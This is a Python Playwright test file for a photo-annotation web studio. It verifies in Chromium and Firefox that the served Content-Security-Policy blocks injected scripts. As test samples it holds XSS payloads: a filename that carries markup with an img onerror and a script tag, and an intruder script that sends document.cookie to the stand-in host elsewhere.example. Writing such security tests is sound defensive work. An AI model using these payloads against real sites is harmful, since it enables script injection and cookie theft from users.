"""Every page at work in both browsers, under the policy as it is served: nothing of ours is stopped, all else is."""

import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import uvicorn
from playwright.sync_api import Browser, ConsoleMessage, Page, expect
from small_images import BlurredTrimap, approve, disc, draft, png

from annotation_store.learning import what_serves
from annotation_store.learning.model_registry import list_models
from studio.device.live_model import LiveModel
from studio.settings import Settings
from studio.studio import Studio, open_studio
from studio.web import create_app

pytestmark = pytest.mark.browser

MARKUP = """cup"><img src=x onerror="window.intruded=1"><script>window.intruded=1</script>.png"""

LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
  violations.push(`${violatedDirective} ${blockedURI}`);
});
"""


INTRUDE = """(elsewhere) => {
  const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
  add(`<img src="data:," onerror="window.intruded = 'handler'">`);
  add(`<a href="javascript:void(window.intruded = 'address')">here</a>`);
  document.body.lastElementChild.click();
  add(`<iframe srcdoc="<script>parent.intruded = 'frame'</script>"></iframe>`);
  const script = (properties) => document.head.append(Object.assign(document.createElement("script"), properties));
  script({ textContent: "window.intruded = 'inline'" });
  script({ src: `${elsewhere}/script.js` });
  setTimeout("window.intruded = 'text'");
  fetch(`${elsewhere}/secrets`, { mode: "no-cors", method: "POST", body: document.cookie }).catch(() => {});
  add(`<img src="${elsewhere}/pixel.png">`);
}"""
"""What an intruder would do who can write markup into a page, or lead it to load something."""

ELSEWHERE = "http://elsewhere.example"


@dataclass
class Served:
    """A studio and its address."""

    studio: Studio
    address: str


@dataclass
class Visit:
    """A page of the studio, and what went wrong on it."""

    page: Page
    served: Served
    complaints: list[str] = field(default_factory=list)

    def open(self, path: str) -> None:
        self.page.goto(self.served.address + path)

    def violations(self) -> list[str]:
        found: list[str] = self.page.evaluate("violations")
        return found

    def note(self, message: ConsoleMessage) -> None:
        if message.type == "error" or "Content-Security-Policy" in message.text:
            self.complaints.append(message.text)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A studio with one approved photo, one to correct, and one whose name is markup."""
    settings = Settings(_env_file=None, data_dir=tmp_path_factory.mktemp("policy") / "data", operator="keiko", port=0)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(LiveModel, "get", lambda live, *_, **__: (what_serves.live_model(live._store), BlurredTrimap()))
        patch.setattr(LiveModel, "_load", lambda *_: BlurredTrimap())
        patch.setattr(LiveModel, "warm_up", lambda *_: None)
        studio = open_studio(settings)
        approve(studio.store, "bowl_1.png", 1)
        draft(studio.store, "cup_1.png", 2)
        draft(studio.store, MARKUP, 3)
        server = uvicorn.Server(uvicorn.Config(create_app(studio), port=0, log_level="warning", ws="none"))
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        while not server.started:
            time.sleep(0.01)
        yield Served(studio, f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}")
        server.should_exit = True
        thread.join()


@pytest.fixture(params=["browser", "firefox"], ids=["chromium", "firefox"])
def visit(request: pytest.FixtureRequest, served: Served) -> Iterator[Visit]:
    browser: Browser = request.getfixturevalue(request.param)
    with browser.new_context(viewport={"width": 1280, "height": 800}, accept_downloads=True) as context:
        visit = Visit(context.new_page(), served)
        visit.page.set_default_timeout(30_000)
        visit.page.add_init_script(LISTEN)
        visit.page.on("console", visit.note)
        visit.page.on("pageerror", lambda error: visit.complaints.append(str(error)))
        visit.page.on("request", lambda sent: _expect_own(sent.url, visit))
        yield visit


def _expect_own(url: str, visit: Visit) -> None:
    if not url.startswith((visit.served.address, "data:")):
        visit.complaints.append(f"asked for {url}")


def expect_peace(visit: Visit) -> None:
    """Nothing was stopped by the policy, and the page has not complained."""
    assert visit.violations() == []
    assert visit.complaints == []


def test_photos_come_in(visit: Visit, tmp_path: Path) -> None:
    name = f"plate_{visit.page.context.browser.browser_type.name}.png"
    (tmp_path / name).write_bytes(png(disc(len(name))[0]))
    visit.open("/")
    visit.page.get_by_test_id("image-1").wait_for()
    visit.page.set_input_files("#upload input[type=file]", [tmp_path / name])
    expect(visit.page.get_by_test_id("intake-accepted")).to_contain_text("1")
    expect(visit.page.locator("#gallery").get_by_text(name)).to_be_visible()
    expect_peace(visit)


def test_a_photo_is_corrected(visit: Visit) -> None:
    visit.open("/correct?image=2")
    status = visit.page.get_by_test_id("editor-status")
    status.and_(visit.page.locator("[data-state=ready],[data-state=saved]")).wait_for()
    visit.page.get_by_test_id("ink-background").click()
    x, y = visit.page.evaluate("(({ x, y }) => [x, y])(matteloopEditor.imageToClient(48, 32))")
    visit.page.mouse.move(x, y)
    visit.page.mouse.down()
    visit.page.mouse.move(x + 30, y + 10, steps=2)
    visit.page.mouse.up()
    visit.page.evaluate("matteloopEditor.whenSaved()")
    assert visit.page.request.get(f"{visit.served.address}/api/v1/images/2").json()["can_undo"]
    expect_peace(visit)


def test_a_model_is_looked_at_and_chosen(visit: Visit) -> None:
    """By buttons that stand in the HTML of the page."""
    closed_form = {model.name: model.id for model in list_models(visit.served.studio.store)}["closed-form"]
    visit.open("/learn")
    visit.page.get_by_test_id("models").locator(f"[data-deed='look:{closed_form}:0']").click()
    version = visit.page.get_by_test_id("version")
    expect(version).to_have_attribute("data-version", str(closed_form))
    version.locator("[data-deed^=let_serve]").click()
    expect(visit.page.get_by_test_id("learn-answer")).to_contain_text("closed-form serves General now")
    visit.page.get_by_test_id("serving").locator("[data-deed^=roll_back]").click()
    expect(visit.page.get_by_test_id("live-matting-1").locator("strong")).to_have_text("compact")
    expect_peace(visit)


def test_an_image_is_made_golden_from_the_gallery(visit: Visit) -> None:
    visit.open("/")
    visit.page.locator("[data-deed='make_golden:1:0']").click()
    retire = visit.page.locator("[data-deed='retire_golden:1:0']")
    retire.click()
    visit.page.locator("[data-deed='make_golden:1:0']").wait_for()
    expect(visit.page.get_by_test_id("golden-answer")).to_contain_text("no longer golden")
    expect_peace(visit)


def test_cutouts_are_downloaded(visit: Visit) -> None:
    visit.open("/export")
    visit.page.locator("#export-now:not([disabled])").click()
    with visit.page.expect_download() as waiting:
        visit.page.get_by_test_id("download-1").click()
    assert Path(waiting.value.path()).read_bytes().startswith(b"PK")
    expect_peace(visit)


def intrude(page: Page) -> object:
    """Let an intruder at the page; what of theirs has run, None if nothing."""
    page.route(f"{ELSEWHERE}/**", lambda route: route.fulfill(body="window.intruded = 'script'"))
    page.evaluate(INTRUDE, ELSEWHERE)
    page.wait_for_timeout(300)  # for what must not happen there is nothing to wait for
    return page.evaluate("window.intruded ?? null")


def test_markup_in_a_photos_name_is_a_name(visit: Visit) -> None:
    visit.open("/")
    expect(visit.page.get_by_test_id("image-3")).to_contain_text(MARKUP)
    assert visit.page.evaluate("window.intruded ?? null") is None
    expect_peace(visit)


def test_an_intruder_runs_nothing_and_reaches_nobody(visit: Visit) -> None:
    visit.open("/")
    visit.page.get_by_test_id("image-3").wait_for()
    assert intrude(visit.page) is None
    stopped = visit.violations()
    for attempt in ("script-src-attr inline", "script-src-elem inline", "script-src eval"):
        assert any(found.startswith(attempt) for found in stopped), stopped
    for attempt in ("script-src-elem", "connect-src", "img-src"):
        assert any(found.startswith(f"{attempt} {ELSEWHERE}") for found in stopped), stopped


def test_the_same_intruder_has_their_way_where_there_is_no_policy(browser: Browser, served: Served) -> None:
    """So that the test above is known to be able to fail."""
    with browser.new_context(bypass_csp=True) as context:
        page = context.new_page()
        page.goto(served.address)
        page.get_by_test_id("image-3").wait_for()
        assert intrude(page) is not None
